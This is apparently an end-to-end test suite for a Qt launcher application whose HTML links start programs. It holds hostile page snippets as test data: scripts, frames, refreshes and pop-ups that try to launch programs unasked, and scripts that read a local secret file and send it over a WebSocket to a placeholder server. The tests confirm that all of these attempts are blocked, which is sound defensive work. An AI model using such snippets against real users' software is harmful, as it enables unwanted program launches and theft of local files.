// The runner in the real engine: links followed by real clicks and keys, programs really
// started (argrecorder writes down what it got), and pages that try to start things unasked.
#include "e2e/RunnerHarness.h"
#include "items/ImportItems.h"

#include <QBuffer>
#include <QImage>
#include <QTcpServer>
#include <QWebEngineSettings>

using namespace RunnerHarness;

namespace {
const QString VisibleSections = "Array.from(document.querySelectorAll('h2'))"
                                ".filter(h => h.getClientRects().length).length";
// The find bar's band shows (it waits in the page, of no height, while it is closed).
const QString HasBar = "(b => b !== null && b.getBoundingClientRect().height > 0)"
                       "(document.querySelector('quintor-find'))";

} // namespace

class TestRunnerE2E : public QObject, Harness {
    Q_OBJECT
    bool OpensThousand(const QString& Props = {}) {
        if (!Opens(Build("Thousand.htm", ThousandItems(Recorder), Props)))
            return false;
        ClickOn("document.querySelector('h1')"); // the page has the focus
        return true;
    }

private slots:
    void init() { Start(); }

    // Escapes the page wrote reach the program as written; what the engine would escape
    // (blanks, quotes, backslash, non-ASCII) arrives as the item had it; a tab separates.
    void clickAndEnterStartTheItemExactly() {
        const QString folder = Dir.filePath("Start in ö");
        QVERIFY(QDir().mkpath(folder));
        const QString page =
            Build("My Items.htm",
                  {{"Rec", Recorder,
                    "x=1%2C2 100%25 %41 \"two words\" C:\\x\\y Grüße\tend a,b \"\" &amp; <b>",
                    folder, "Maximised Focus"}},
                  "Start maximised=True|Width=400");
        // The arguments are joined by one blank and every double quote removed.
        QVERIFY(Loads([&] { R->W.Form_Load({"\"" + Dir.filePath("My"), "It\"ems.htm\""}); }));
        QCOMPARE(R->W.CurFile(), page);
        Box()->setText("-v");
        QCOMPARE(View()->height() + Box()->height() + Status()->height(), R->W.height());
        ClickOn(ItemLink("Rec"));
        QVERIFY(RecorderRan());
        const QStringList expected{folder,     "x=1%2C2", "100%25", "%41", "two words",
                                   "C:\\x\\y", "Grüße",   "end",    "a,b", "",
                                   "&amp;",    "<b>",     "-v"};
        QCOMPARE(Recorded(), expected);
        QCOMPARE(R->Port.Calls.size(), 1);
        QVERIFY2(R->Port.Calls[0].endsWith("|3"), qPrintable(R->Port.Calls[0]));
        QVERIFY(R->Dialogs.Messages.isEmpty());
        QVERIFY(R->W.isMaximized());
        QFile::remove(ArgsFile);
        Eval(ItemLink("Rec") + ".focus()");
        Key(Qt::Key_Return);
        QVERIFY(RecorderRan(2));
        QCOMPARE(Recorded(), expected);
    }

    // Nothing but a user's click or key press starts anything: not a frame, not a script,
    // not a refresh, a form or a pop-up; none of them gets a message, nor piles up windows.
    // Page scripts do not run at all; rows marked "scripts on" run them all the same, to
    // show that the link watcher alone still refuses what they do.
    void pagesStartNothingByThemselves_data() {
        // Header of the launcher page, and inner.htm, shown in a frame when Header has one;
        // "RUN" is a runner link, and a cell that is no markup is a script.
        Columns<QString, QString, bool>({"Header", "Inner", "Scripts"});
        const QString frame = "<iframe src=\"inner.htm\"></iframe>";
        // A script's click on a label reaches the control the label names, inside a runner
        // link, as a trusted click on the link.
        const auto label = [](const QString& Control, const QString& How) {
            return "<a href=\"RUN\">" + Control + "</a><label for=c id=l>x</label><script>" +
                   How.arg("document.getElementById('l')") + "</script>";
        };
        const QString checkbox = "<input type=checkbox id=c>";
        const QString later = "setTimeout(() => %1.click(), 100)";
        for (bool scripts : {false, true}) {
            const auto row = [scripts](const QString& Name, const QString& Header,
                                       const QString& Inner = {}) {
                const QString tag = Name + (scripts ? " (scripts on)" : "");
                QTest::newRow(qPrintable(tag)) << Header << Inner << scripts;
            };
            row("label clicks a checkbox in a link", label(checkbox, later));
            row("label clicks a radio button in a link", label("<input type=radio id=c>", later));
            row("label clicks a button in a link", label("<button id=c>b</button>", later));
            row("label gets a click event",
                label(checkbox, "setTimeout(() => %1.dispatchEvent(new "
                                "MouseEvent('click', {bubbles: true})), 100)"));
            row("label clicked from a timer", label(checkbox, "setInterval(() => %1.click(), 50)"));
            row("label in a frame", frame, label(checkbox, later));
            row("label on a page a script made current",
                "<script>location.href='inner.htm'</script>", label(checkbox, later));
            row("script clicks an item",
                "<script>addEventListener('load', () => "
                "document.querySelector('a[title=Rec]').click())</script>");
        }
        const auto Row = [](const char* Name, const QString& Header, const QString& Inner) {
            DataRows::Row(Name, Header, Inner, false);
        };
        Row("frame opens a window", frame, "window.open('RUN')");
        Row("frame moves the page", frame, "top.location.href='RUN'");
        Row("frame sends a form to the page", frame,
            "<form target=_top action='RUN'></form><script>document.forms[0].submit()</script>");
        Row("refresh", "<meta http-equiv=refresh content=\"0;url=RUN\">", "");
        Row("script on load", "location.href='RUN'", "");
        Row("pop-up sent on later", "var w = open(''); setTimeout(() => w.location = 'RUN', 50)",
            "");
        Row("pop-up left blank", "open('')", "");
        Row("windows without end",
            "setInterval(() => { for (var i = 0; i < 50; ++i) open('') }, 20)", "");
        Row("3 MB address by script", "location.href = 'https://h/?' + 'a'.repeat(3 << 20)", "");
        Row("a page the refresh made current",
            "<meta http-equiv=refresh content=\"0;url=inner.htm\">", "location.href='RUN'");
    }
    void pagesStartNothingByThemselves() {
        const auto html = [this](const char* Cell) {
            const QString text = QString(Fetch(Cell)).replace("RUN", "qt:" + Recorder + ",unasked");
            return text.isEmpty() || text.startsWith('<') ? text : "<script>" + text + "</script>";
        };
        Write("inner.htm", html("Inner"));
        const QString page =
            Build("Hostile.htm", {{"Rec", Recorder, "clicked"}}, "Closable=False", html("Header"));
        View()->page()->settings()->setAttribute(QWebEngineSettings::JavascriptEnabled,
                                                 Fetch<bool>("Scripts"));
        QVERIFY(Opens(page));
        QTest::qWait(1500);
        // Never left blank: a page the engine refused comes back, or gives way to the welcome page.
        QTRY_VERIFY(View()->url().scheme() != "about");
        QCOMPARE(R->Port.Calls, QStringList());
        QCOMPARE(R->Dialogs.Messages.size(), 0);
        QVERIFY(R->W.isVisible());
        QVERIFY(!QFileInfo::exists(ArgsFile));
        // One pop-up at a time, and one that has not gone anywhere within a moment is gone.
        const auto pages = [this] { return R->W.findChildren<QWebEnginePage*>().size(); };
        QVERIFY(pages() <= 2);
        if (QLatin1String(QTest::currentDataTag()) != "windows without end")
            QTRY_COMPARE(pages(), 1);
    }

    // A page reads no local file and reaches no server, with or without anybody's click: a
    // listener on this machine hears nothing, nothing goes to the desktop, and the page's
    // title, where a script would show what it read, stays its own.
    void pagesReadAndSendNothing_data() {
        // Header of the page; "SERVER" is the listener's address, "SECRET" a file of the
        // test's; Click: an element the user then really clicks.
        Texts({"Header", "Click"});
        const QString show = "<script>%1</script>";
        Row("XMLHttpRequest of a file",
            show.arg("var r = new XMLHttpRequest(); r.open('GET', 'SECRET', false); r.send();"
                     " document.title = r.responseText"),
            "");
        Row("fetch of a file",
            show.arg("fetch('SECRET').then(r => r.text()).then(t => document.title = t)"), "");
        Row("fetch of a folder",
            show.arg("fetch('DIR/').then(r => r.text()).then(t => document.title = t)"), "");
        Row("frame's document read",
            "<iframe src=\"SECRET\" onload=\"document.title = "
            "this.contentDocument.body.textContent\"></iframe>",
            "");
        Row("file sent over a socket",
            show.arg("fetch('SECRET').then(r => r.text()).then(t => new "
                     "WebSocket('ws://SERVER/?' + t))"),
            "");
        Row("picture", "<img src=\"http://SERVER/i.png\">", "");
        Row("picture set", "<img srcset=\"http://SERVER/i.png 1x\">", "");
        Row("style sheet", "<link rel=stylesheet href=\"http://SERVER/s.css\">", "");
        Row("style sheet import", "<style>@import url(http://SERVER/i.css);</style>", "");
        Row("background", "<div style=\"background: url(http://SERVER/b.png)\">b</div>", "");
        Row("prefetch and preconnect",
            "<link rel=prefetch href=\"http://SERVER/p\"><link rel=preconnect "
            "href=\"http://SERVER\"><link rel=dns-prefetch href=\"http://SERVER\">",
            "");
        Row("sound and film",
            "<audio autoplay src=\"http://SERVER/a.ogg\"></audio><video "
            "poster=\"http://SERVER/v.png\"></video>",
            "");
        Row("object and embed",
            "<object data=\"http://SERVER/o\"></object><embed src=\"http://SERVER/e\">", "");
        Row("frame", "<iframe src=\"http://SERVER/f\"></iframe>", "");
        Row("refresh", "<meta http-equiv=refresh content=\"0;url=http://SERVER/r\">", "");
        Row("form sent by a click",
            "<form action=\"http://SERVER/f\"><button id=send>Send</button></form>",
            "document.getElementById('send')");
    }
    void pagesReadAndSendNothing() {
        QTcpServer listener;
        QVERIFY(listener.listen(QHostAddress::LocalHost));
        int heard = 0;
        connect(&listener, &QTcpServer::newConnection, [&] { ++heard; });
        const QString secret = Dir.filePath("secret.txt");
        QVERIFY(TestFiles::Write(secret, "MARKER"));
        const QString header =
            Real(Fetch("Header"))
                .replace("SERVER", "127.0.0.1:" + QString::number(listener.serverPort()))
                .replace("SECRET", QUrl::fromLocalFile(secret).toString());
        // The page's own local picture still shows.
        const QString picture = Dir.filePath("own.png");
        QImage(16, 16, QImage::Format_RGB32).save(picture);
        Item item{"Rec", Recorder};
        item.Icon = picture;
        QVERIFY(Opens(Build("Reader.htm", {item}, {}, header)));
        if (!Fetch("Click").isEmpty())
            ClickOn(Fetch("Click"));
        QTest::qWait(1500);
        QCOMPARE(heard, 0);
        QCOMPARE(R->Port.Calls, QStringList());
        QCOMPARE(R->Dialogs.Messages.size(), 0);
        QCOMPARE(View()->title(), QStringLiteral("Reader"));
        QCOMPARE(View()->url(), QUrl::fromLocalFile(Dir.filePath("Reader.htm")));
        QCOMPARE(Eval(ItemLink("Rec") + ".querySelector('img').naturalWidth").toInt(), 16);
    }

    // The left button clicks and the middle one opens: both start the item; the right one
    // only asks for a menu. A press that began beside the link and ends on it is no click on it.
    void onlyAPressOnTheLinkStartsIt_data() {
        Columns<Qt::MouseButton, bool, bool>({"Button", "PressedOnLink", "Starts"});
        Row("left", Qt::LeftButton, true, true);
        Row("middle", Qt::MiddleButton, true, true);
        Row("right", Qt::RightButton, true, false);
        Row("left, pressed beside the link", Qt::LeftButton, false, false);
    }
    void onlyAPressOnTheLinkStartsIt() {
        QVERIFY(Opens(Build("Buttons.htm", {{"Rec", Recorder, "pressed"}})));
        const auto at = [this](const QString& Element) {
            const QVariantList centre = Eval(CentreOf(Element)).toList();
            return QPoint(centre.value(0).toInt(), centre.value(1).toInt());
        };
        const QPoint link = at(ItemLink("Rec"));
        const QPoint press =
            Fetch<bool>("PressedOnLink") ? link : at("document.querySelector('h1')");
        const auto button = Fetch<Qt::MouseButton>("Button");
        QWidget* surface = View()->focusProxy();
        QTest::mousePress(surface, button, {}, press);
        QTest::mouseMove(surface, link);
        QTest::mouseRelease(surface, button, {}, link);
        if (Fetch<bool>("Starts")) {
            QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(ArgsFile), 10000);
            QCOMPARE(Recorded().mid(1), QStringList{"pressed"});
        } else {
            QTest::qWait(1000);
            QVERIFY(!QFileInfo::exists(ArgsFile));
        }
        QCOMPARE(R->Port.Calls.size(), int(Fetch<bool>("Starts")));
        QCOMPARE(R->Dialogs.Messages.size(), 0);
    }

    // Local pages are shown; every other file or address goes to its own application (a
    // program is never executed). A failed launch is shown; the page and its items stay.
    void clickedItemsLaunchOrSayWhy_data() {
        // Launch: what the port was asked. Message "": none, and argrecorder (our desktop's
        // PDF program) got the document.
        Texts({"Command", "StartIn", "Run", "Launch", "Message"});
        const QString failed = "The command '%1' could not be executed.  ";
        const QString none = "No application is set to open ";
        Row("picture or PDF", "DIR/doc.pdf", "", "Hyperlink", "document DIR/doc.pdf", "");
        Row("program behind a file link", "file://PROGRAM?x", "", "Hyperlink", "document PROGRAM",
            failed.arg("file://PROGRAM?x") + none);
        Row("document without an application", "DIR/data.qqq", "", "Normal Window",
            "DIR/data.qqq|||1", failed.arg("DIR/data.qqq") + none);
        Row("start-in folder missing", "PROGRAM", "/no/such", "Normal Window",
            "PROGRAM||/no/such|1",
            failed.arg("PROGRAM") + "The start-in folder '/no/such' does not exist");
        const QString overlong =
            "https://h/?" + QString(3 << 20, 'a'); // more than the engine takes
        Row("overlong address", overlong, "", "Hyperlink", "document " + overlong,
            failed.arg(overlong) + none);
    }
    void clickedItemsLaunchOrSayWhy() {
        const QString Message = Real(Fetch("Message"));
        Write("doc.pdf", "%PDF-1.4\n");
        Write("data.qqq", QString(QChar(1)) + "\x02");
        const QString page =
            Build("Items.htm",
                  {{"Item", Real(Fetch("Command")), {}, Fetch("StartIn"), Fetch("Run")},
                   {"Rec", Recorder, "after"}},
                  "Closable=False");
        QVERIFY(Opens(page));
        ClickOn(ItemLink("Item"));
        QCOMPARE(Launches(), QStringList{Real(Fetch("Launch"))});
        if (Message.isEmpty()) {
            QVERIFY(RecorderRan());
            QCOMPARE(Recorded().mid(1), QStringList{Dir.filePath("doc.pdf")});
        } else {
            QTRY_COMPARE(R->Dialogs.Messages.size(), 1);
            const QString shown = "Critical OK Launch Error: " + Message;
            QCOMPARE(MessageLine(R->Dialogs.LastMessage()).left(shown.size()), shown);
            QVERIFY(!QFileInfo::exists(ArgsFile));
        }
        QTest::qWait(300);
        QCOMPARE(View()->url(), QUrl::fromLocalFile(page));
        QCOMPARE(R->W.CurFile(), page);
        QVERIFY(!R->W.close()); // the page's info block still holds
        QFile::remove(ArgsFile);
        ClickOn(ItemLink("Rec"));
        QVERIFY(RecorderRan(2));
        QCOMPARE(Recorded().mid(1), QStringList{"after"});
    }

    void welcomePageOpensAPageWhoseLinksFollowTheRules() {
        const QString second = Build("Second Page.htm", {},
                                     "Closable=False|Extra commands=False|Show exit command=True");
        const QString first = Build("First Page.htm",
                                    {{"Next", "Second Page.htm", {}, {}, "Hyperlink"},
                                     {"Web", "https://example.com/a b?q=1", {}, {}, "Hyperlink"}},
                                    {}, "<iframe src=\"frame.htm\"></iframe>");
        Write("frame.htm", "<a href=\"qt:/bin/true\">run</a>");
        R->Port.PassOn = false;
        QVERIFY(Loads([&] { R->W.Form_Load({}); }));
        QTRY_COMPARE(R->W.windowTitle(), QStringLiteral("Welcome! - Quintor"));
        R->Dialogs.FileAnswers = {first};
        QVERIFY(Loads([&] { ClickOn("document.links[0]"); }));
        QCOMPARE(R->W.CurFile(), first);
        QTRY_COMPARE(R->W.windowTitle(), QStringLiteral("First Page - Quintor"));
        QCOMPARE(RequestLine(R->Dialogs.FileRequests.last()),
                 "open, must exist Open a Quintor File: HTML Files (*.htm;*.html)|*.htm;*.html|All "
                 "Files (*.*)|*.* []");
        // An address goes to the system as the engine resolved it.
        ClickOn(ItemLink("Web"));
        QCOMPARE(Launches(), QStringList{"document https://example.com/a%20b?q=1"});
        // A runner link clicked in a frame is refused, with the open dialog.
        ClickOn("document.querySelector('iframe').contentDocument.links[0]");
        QTRY_COMPARE(R->Dialogs.Messages.size(), 1);
        QCOMPARE(R->Dialogs.FileRequests.size(), 2);
        // A link to another page makes it current and applies its info block.
        QVERIFY(Loads([&] { ClickOn(ItemLink("Next")); }));
        QTRY_COMPARE(R->W.CurFile(), second);
        QCOMPARE(View()->geometry(), QRect(0, 0, R->W.width(), R->W.height() - Status()->height()));
        ClickOn("document.querySelector('a[href=\"qtc:exit\"]')");
        QTRY_VERIFY(!R->W.isVisible());
    }

    // A browser's exported bookmarks, imported and built: a click hands the address, its
    // comma encoded, to the default application; the item shows the kept icon.
    void importedBookmarksOpenTheirAddresses() {
        QImage picture(8, 8, QImage::Format_RGB32);
        picture.fill(Qt::darkCyan);
        QByteArray png;
        QBuffer buffer(&png);
        buffer.open(QIODevice::WriteOnly);
        picture.save(&buffer, "PNG");
        const QString bookmarks = Write(
            "exported.html",
            "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<TITLE>Bookmarks</TITLE>\n<H1>Bookmarks</H1>\n"
            "<DL><p>\n<DT><H3>Web &amp; Mail</H3>\n<DL><p>\n"
            "<DT><A HREF=\"http://example.org/a,b?q=1&amp;r=%2C\" ICON=\"data:image/png;base64," +
                QString::fromLatin1(png.toBase64()) +
                "\">Site</A>\n<DT><A HREF=\"javascript:alert(1)\">Script</A>\n</DL><p>\n</DL>\n");
        LauncherDocument doc;
        ScriptedUserDialogs dialogs;
        QVERIFY(ImportItems::Import(doc, dialogs, bookmarks, {}));
        QCOMPARE(dialogs.LastMessage().Text,
                 "1 item was successfully added. 1 bookmark could not be used.");
        const QString page = Write("Bookmarks.htm", GenHTML(doc, false, {}));
        QVERIFY(Opens(page));
        const QString icon = Eval(ItemLink("Site") + ".querySelector('img').src").toString();
        QCOMPARE(Eval(ItemLink("Site") + ".querySelector('img').naturalWidth").toInt(), 8);
        QCOMPARE(QUrl(icon).toLocalFile(), doc.Items.Cell(2, cellIcon));
        ClickOn(ItemLink("Site"));
        const QString address = "http://example.org/a%2Cb?q=1&r=%2C";
        QTRY_COMPARE(R->Port.Calls, QStringList{"document " + address});
        QTRY_VERIFY_WITH_TIMEOUT(QFileInfo::exists(ArgsFile), 10000);
        QCOMPARE(Recorded().mid(1), QStringList{address});
    }

    void typingFindsItemsAndEnterStartsTheHighlighted() {
        QVERIFY(OpensThousand("Minimise on use=True"));
        Type("emile");
        QTRY_COMPARE(Visible(), QStringList{"Émile's Editor"}); // accent-blind
        QCOMPARE(Eval(VisibleSections).toInt(), 1);
        QCOMPARE(Highlighted(), QStringLiteral("Émile's Editor"));
        Key(Qt::Key_Escape);
        QTRY_COMPARE(Visible().size(), 1001);
        QCOMPARE(Eval(VisibleSections).toInt(), 11);
        QVERIFY(!Eval(HasBar).toBool());
        Type("LETTERS edit"); // every word, in the comment and the description
        QTRY_COMPARE(Visible(), QStringList{"Émile's Editor"});
        Key(Qt::Key_Return);
        QVERIFY(RecorderRan());
        QCOMPARE(Recorded().mid(1), QStringList{"found"});
        QCOMPARE(R->Port.Calls.size(), 1);
        QVERIFY(R->W.isMinimized()); // as a click does
        Key(Qt::Key_Escape);
        QTRY_COMPARE(Visible().size(), 1001);
        Type("tool-10"); // the command; the arrows move from match to match
        QTRY_COMPARE(Visible().size(), 12);
        Key(Qt::Key_Right);
        QTRY_COMPARE(Highlighted(), QStringLiteral("Item 100"));
    }

    // The arrows go to the nearest item that way, across sections and far down the page:
    // from the item with the focus, or from the highlight while the bar finds.
    void arrowsGoToTheNearestItemThatWay_data() {
        Texts({"Query", "From", "Key", "To"});
        Row("down a row", "", "Item 7", "Down", "Item 12");
        Row("up a row", "", "Item 12", "Up", "Item 7");
        Row("right", "", "Item 7", "Right", "Item 8");
        Row("left", "", "Item 7", "Left", "Item 6");
        Row("down into the next section", "", "Item 98", "Down", "Item 103");
        Row("up into the section before", "", "Item 103", "Up", "Item 98");
        Row("right into the next section", "", "Item 1000", "Right", "Émile's Editor");
        Row("down, far down the page", "", "Item 903", "Down", "Item 908");
        Row("up, far down the page", "", "Item 908", "Up", "Item 903");
        Row("down among matches", "tool-10", "Item 10", "Down", "Item 101");
        Row("right among matches", "tool-10", "Item 10", "Right", "Item 100");
    }
    void arrowsGoToTheNearestItemThatWay() {
        QVERIFY(OpensThousand());
        const QMap<QString, Qt::Key> keys = {{"Down", Qt::Key_Down},
                                             {"Up", Qt::Key_Up},
                                             {"Right", Qt::Key_Right},
                                             {"Left", Qt::Key_Left}};
        const QString focused = "document.activeElement.textContent";
        ClickOn("document.querySelector('h1')");
        if (Fetch("Query").isEmpty()) {
            // Again until it holds: the click that gave the view the focus may come after.
            QTRY_COMPARE(Eval("(function () { Array.from(document.querySelectorAll('td > a'))"
                              ".find(a => a.textContent === '" +
                              Fetch("From") +
                              "').focus();"
                              " return " +
                              focused + "; })()")
                             .toString(),
                         Fetch("From"));
            Key(keys[Fetch("Key")]);
            QTRY_COMPARE(Eval(focused).toString(), Fetch("To"));
        } else {
            Type(Fetch("Query"));
            QTRY_COMPARE(Highlighted(), Fetch("From"));
            Key(keys[Fetch("Key")]);
            QTRY_COMPARE(Highlighted(), Fetch("To"));
        }
    }

    // Typing into the extra-commands box is not a search; Ctrl+F is; a page without item
    // links gets no bar.
    void barOpensOnlyWhereItBelongs() {
        QVERIFY(OpensThousand());
        Box()->setFocus();
        QTest::keyClicks(Box(), "ab/c");
        QCOMPARE(Box()->text(), QStringLiteral("ab/c"));
        QTest::qWait(500);
        QVERIFY(!Eval(HasBar).toBool());
        QCOMPARE(Visible().size(), 1001);
        ClickOn("document.querySelector('h1')");
        Key(Qt::Key_F, Qt::ControlModifier);
        QTRY_VERIFY(Eval(HasBar).toBool());
        QVERIFY(Opens(Write("plain.htm", "<table><tr><td><a href=x.htm>x</a></td></tr></table>")));
        ClickOn("document.body");
        Key(Qt::Key_F, Qt::ControlModifier);
        Type("x");
        QTest::qWait(500);
        QVERIFY(!Eval(HasBar).toBool());
    }

    // Ctrl+O opens, F5 refreshes; Ctrl+W and Ctrl+Q close only a closable page.
    void windowCommandsHaveTheirKeys() {
        QVERIFY(Opens(Build("Keys.htm", {{"One", "/bin/true"}}, "Closable=False")));
        ClickOn("document.querySelector('h1')");
        Key(Qt::Key_O, Qt::ControlModifier);
        QTRY_COMPARE(R->Dialogs.FileRequests.size(), 1);
        QVERIFY(Loads([&] { Key(Qt::Key_F5); }));
        Key(Qt::Key_W, Qt::ControlModifier);
        Key(Qt::Key_Q, Qt::ControlModifier);
        QTest::qWait(300);
        QVERIFY(R->W.isVisible()); // this page may not be closed
        QVERIFY(Opens(Build("Closable.htm", {{"One", "/bin/true"}})));
        ClickOn("document.querySelector('h1')");
        Key(Qt::Key_W, Qt::ControlModifier);
        QTRY_VERIFY(!R->W.isVisible());
    }
};

int main(int argc, char* argv[]) {
    return RunnerHarness::Run<TestRunnerE2E>(argc, argv);
}
#include "test_runner_e2e.moc"
